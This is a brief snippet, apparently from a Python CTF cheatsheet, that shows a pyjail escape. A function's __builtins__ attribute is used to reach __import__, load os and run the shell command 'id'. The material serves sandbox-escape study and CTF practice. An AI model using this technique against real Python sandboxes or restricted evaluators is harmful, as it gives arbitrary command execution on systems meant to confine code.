# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (user_defined_function.__builtins__)
# Family: builtins-route
# What: a function's __builtins__ attribute (3.10+)
def f():
    pass

f.__builtins__["__import__"]("os").system("id")
